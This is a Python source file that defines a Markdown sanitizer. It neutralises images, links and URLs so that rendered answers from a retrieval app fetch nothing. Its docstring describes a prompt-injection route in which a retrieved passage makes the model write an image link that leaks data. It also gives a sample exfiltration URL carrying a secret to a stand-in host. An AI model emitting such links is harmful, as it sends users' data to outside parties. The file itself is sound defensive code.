"""Document and model text as Markdown that loads nothing from elsewhere.

A retrieved passage is somebody else's text, and an answer can repeat what a passage told the
model to write. Rendered as Markdown, ``![x](https://host/?q=secret)`` makes the browser fetch
that URL the moment it is shown: data leaves by image. ``safe_markdown`` keeps the text readable
and turns every image, link and bare URL into inert text (the URL in a code span, which is neither
fetched nor clickable). Raw HTML needs no work here: ``st.markdown`` escapes it by default.
"""

from __future__ import annotations

import re

# one pass, so that what one rule writes (a code span) is not rewritten by the next
_UNSAFE = re.compile(
    r"(?P<inline>(?P<bang>!?)\[(?P<label>[^\]\n]*)\]\((?P<target>[^)\n]*)\))"  # [text](url), ![alt](url)
    r"|(?P<image>!\[)"  # a reference-style image: ![alt][ref]
    r"|(?P<definition>^[ \t]{0,3}\[(?P<ref>[^\]\n]+)\]:)"  # [ref]: url (what reference links resolve to)
    r"|<(?P<autolink>[a-z][a-z0-9+.-]{1,31}:[^>\s]*)>"  # <https://...>
    r"|(?P<bare>\b(?:[a-z][a-z0-9+.-]{1,31}://|www\.)[^\s<>`]+)",  # https://... as text (GFM linkifies it)
    re.IGNORECASE | re.MULTILINE,
)


def _inert(url: str) -> str:
    url = url.strip().strip("<>").split()[0] if url.strip() else ""
    url = url.replace("`", "")
    return f"`{url}`" if url else ""


def _replace(match: re.Match) -> str:
    if match.group("inline"):
        label, url = match.group("label"), _inert(match.group("target"))
        if match.group("bang"):
            return f"(image not shown: {label or 'no description'}{', ' + url if url else ''})"
        return f"{label} ({url})" if url else label
    if match.group("image"):
        return "!\\["
    if match.group("definition"):
        return match.group(0).replace("[", "\\[", 1)
    return _inert(match.group("autolink") or match.group("bare"))


def safe_markdown(text: str) -> str:
    """``text`` with images, links and URLs made inert, so rendering it fetches nothing."""
    return _UNSAFE.sub(_replace, text or "")
